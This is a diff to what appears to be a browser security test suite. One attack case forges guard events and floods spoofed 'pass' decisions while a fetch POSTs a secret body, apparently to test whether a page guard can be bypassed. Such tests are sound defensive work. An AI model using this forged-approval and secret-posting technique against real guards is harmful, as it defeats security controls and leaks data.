@@ -87,6 +87,11 @@ export const attacks: readonly Attack[] = [
       page.evaluate(({ prompt, secretBody }) => {
         const node = document.createElement('i');
         node.textContent = 'forged';
+        const nodes: Node[] = [node, document];
+        window.addEventListener('sluice:page', (event) => {
+          const { relatedTarget } = event as MouseEvent;
+          if (relatedTarget instanceof Node) nodes.push(relatedTarget);
+        }, true); // prettier-ignore
         for (const type of ['sluice:page', 'sluice:guard'])
           window.dispatchEvent(new MouseEvent(type, { relatedTarget: node, bubbles: true }));
         void fetch(prompt, { method: 'POST', headers: { 'content-type': 'application/json' }, body: secretBody }).catch(
@@ -94,9 +99,8 @@ export const attacks: readonly Attack[] = [
         );
         for (let id = 0; id < 200; id += 1) {
           const detail = JSON.stringify({ id, decision: 'pass', body: '', status: 0 });
-          for (const target of [node, window, document])
-            for (const type of ['answer:forged', 'answer:', 'answer'])
-              target.dispatchEvent(new CustomEvent(type, { detail, bubbles: true }));
+          for (const target of nodes)
+            target.dispatchEvent(new CustomEvent(`answer:${target.textContent ?? ''}`, { detail, bubbles: true }));
           window.postMessage({ id, decision: 'pass' }, '*');
         }
       }, shared(secret)),
